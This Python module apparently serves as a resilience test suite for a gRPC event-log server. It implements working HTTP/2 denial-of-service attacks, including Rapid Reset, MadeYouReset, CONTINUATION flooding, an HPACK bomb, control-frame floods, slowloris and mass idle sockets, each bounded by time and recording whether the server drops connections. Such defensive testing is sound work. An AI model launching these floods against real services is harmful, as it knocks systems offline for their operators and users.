"""What a hostile client does with its connections. Each attack ends after its time, or when the
peer has closed all that it opened.
"""

from __future__ import annotations

import dataclasses
import socket
import time
from collections.abc import Callable

import h2
from h2 import Connection, frame

PATH = "/sakip.eventlog.v1.EventLogService/GetHead"

# Opens a socket to the peer, with TLS where the form has it.
Open = Callable[[], socket.socket]


@dataclasses.dataclass
class Result:
    """What became of the connections of an attack."""

    opened: int = 0
    refused: int = 0
    closed: int = 0
    closed_after: float | None = None  # Of the first that was closed, in seconds.
    sent: int = 0  # Frames, or bytes: what the attack counts.

    def note(self, *connections: Connection) -> "Result":
        ends = [c.closed_after for c in connections if c.closed_after is not None]
        self.opened += len(connections)
        self.closed += len(ends)
        if ends:
            self.closed_after = round(min(ends), 3)
        for connection in connections:
            connection.close()
        return self


def _flood(open_: Open, seconds: float, make: Callable[[int], bytes], frames: int) -> Result:
    """Sends what `make` returns for 0, 1, 2, ...: each of so many frames."""
    connection = Connection(open_())
    deadline = time.monotonic() + seconds
    rounds = 0
    while connection.open and time.monotonic() < deadline:
        if not connection.send(make(rounds)):
            break
        connection.frames.clear()
        rounds += 1
    connection.wait_closed(1.0)
    result = Result(sent=rounds * frames)
    return result.note(connection)


def _calls_ended_by(open_: Open, seconds: float, end: Callable[[int], bytes]) -> Result:
    """Begins calls; the frame that `end` makes for a stream ends each at once."""
    headers = h2.call_headers(PATH)
    batch = 50

    def make(number: int) -> bytes:
        out = b""
        for i in range(batch):
            stream = 2 * (number * batch + i) + 1
            out += frame(h2.HEADERS, h2.END_HEADERS, stream, headers) + end(stream)
        return out

    return _flood(open_, seconds, make, batch)


def rapid_reset(open_: Open, seconds: float) -> Result:
    cancel = (8).to_bytes(4, "big")
    return _calls_ended_by(open_, seconds, lambda stream: frame(h2.RST_STREAM, 0, stream, cancel))


def made_you_reset(open_: Open, seconds: float) -> Result:
    """Calls that the peer itself must reset: their window grows by nothing."""
    nothing = (0).to_bytes(4, "big")
    return _calls_ended_by(
        open_, seconds, lambda stream: frame(h2.WINDOW_UPDATE, 0, stream, nothing)
    )


def _endless_header(open_: Open, seconds: float, told: int, bytes_max: int) -> Result:
    """One header that says that it has `told` bytes, in CONTINUATION frames."""
    connection = Connection(open_())
    start = b"\x00" + h2.integer(1, 7, 0) + b"x" + h2.integer(told, 7, 0)
    connection.send(frame(h2.HEADERS, 0, 1, h2.call_headers(PATH) + start))
    sent = 0
    deadline = time.monotonic() + seconds
    while connection.open and sent < bytes_max and time.monotonic() < deadline:
        if not connection.send(frame(h2.CONTINUATION, 0, 1, b"x" * h2.FRAME_BYTES)):
            break
        sent += h2.FRAME_BYTES
    connection.wait_closed(1.0)
    return Result(sent=sent).note(connection)


def continuation_flood(open_: Open, seconds: float, bytes_max: int = 8 << 20) -> Result:
    return _endless_header(open_, seconds, 2 * bytes_max, bytes_max)


def huge_string(open_: Open, seconds: float, bytes_max: int = 8 << 20) -> Result:
    """A header that says that it has 4 GB."""
    return _endless_header(open_, seconds, 0xFFFFFFFF, bytes_max)


def hpack_bomb(open_: Open, seconds: float) -> Result:
    """A header of 4,000 bytes in the peer's table, then named 16,000 times a frame."""
    first = h2.call_headers(PATH) + h2.literal(b"a", b"x" * 3900, 0x40)
    bomb = b"\xbe" * (h2.FRAME_BYTES - 1024)

    def make(number: int) -> bytes:
        stream = 2 * number + 1
        block = first if number == 0 else h2.call_headers(PATH) + bomb
        return frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block)

    return _flood(open_, seconds, make, 1)


def metadata_1mb(open_: Open, seconds: float) -> Result:
    """Well-formed calls with 1 MB of metadata each."""
    block = h2.call_headers(PATH) + h2.literal(b"x", b"x" * (1 << 20))
    parts = [block[i:i + h2.FRAME_BYTES] for i in range(0, len(block), h2.FRAME_BYTES)]

    def make(number: int) -> bytes:
        stream = 2 * number + 1
        out = frame(h2.HEADERS, h2.END_STREAM, stream, parts[0])
        for i, part in enumerate(parts[1:], 2):
            out += frame(h2.CONTINUATION, h2.END_HEADERS if i == len(parts) else 0, stream, part)
        return out

    return _flood(open_, seconds, make, 1)


def settings_flood(open_: Open, seconds: float) -> Result:
    batch = frame(h2.SETTINGS, 0, 0, b"\0\x04" + (65535).to_bytes(4, "big")) * 100
    return _flood(open_, seconds, lambda number: batch, 100)


def ping_flood(open_: Open, seconds: float) -> Result:
    batch = frame(h2.PING, 0, 0, b"12345678") * 100
    return _flood(open_, seconds, lambda number: batch, 100)


def window_update_flood(open_: Open, seconds: float) -> Result:
    batch = frame(h2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 100
    return _flood(open_, seconds, lambda number: batch, 100)


def empty_frames(open_: Open, seconds: float) -> Result:
    """A call whose body is DATA frames without data."""
    start = frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(PATH))
    batch = frame(h2.DATA, 0, 1) * 100
    return _flood(open_, seconds, lambda number: (b"" if number else start) + batch, 100)


def _open_many(open_: Open, count: int, result: Result, hello: bytes) -> list[Connection]:
    connections = []
    for _ in range(count):
        try:
            connections.append(Connection(open_(), hello))
        except OSError:
            result.refused += 1
    return connections


def _wait(connections: list[Connection], seconds: float, result: Result) -> Result:
    """Says nothing more."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and any(c.open for c in connections):
        for connection in connections:
            connection.read()
        time.sleep(0.2)
    return result.note(*connections)


def slowloris(open_: Open, seconds: float, count: int = 100) -> Result:
    """Headers that come a byte at a time."""
    result = Result()
    connections = _open_many(open_, count, result, h2.PREFACE + frame(h2.SETTINGS, 0, 0))
    head = frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(PATH))
    for connection in connections:
        connection.read(0.5)  # The settings of the peer, which nothing is said to later on.
        connection.mute = True
    deadline = time.monotonic() + seconds
    at = 0
    while time.monotonic() < deadline and at < len(head) and any(c.open for c in connections):
        for connection in connections:
            connection.send(head[at:at + 1])
        result.sent += 1
        at += 1
        time.sleep(0.25)
    for connection in connections:
        connection.read()
    return result.note(*connections)


def idle_sockets(open_: Open, seconds: float, count: int = 10_000) -> Result:
    """Connections that say nothing at all."""
    result = Result()
    connections = _open_many(open_, count, result, b"")
    return _wait(connections, seconds, result)


def unfinished_calls(open_: Open, seconds: float, count: int = 20) -> Result:
    """Calls without a deadline whose message never comes, as many as a connection takes."""
    result = Result()
    connections = _open_many(open_, count, result, h2.PREFACE + frame(h2.SETTINGS, 0, 0))
    for connection in connections:
        for i in range(100):
            head = frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, h2.call_headers(PATH))
            connection.send(head)
            result.sent += 1
    return _wait(connections, seconds, result)


# By name, in the order of the table.
ALL: dict[str, Callable[..., Result]] = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "huge_string": huge_string,
    "metadata_1mb": metadata_1mb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_flood": window_update_flood,
    "empty_frames": empty_frames,
    "slowloris": slowloris,
    "unfinished_calls": unfinished_calls,
    "idle_sockets": idle_sockets,
}
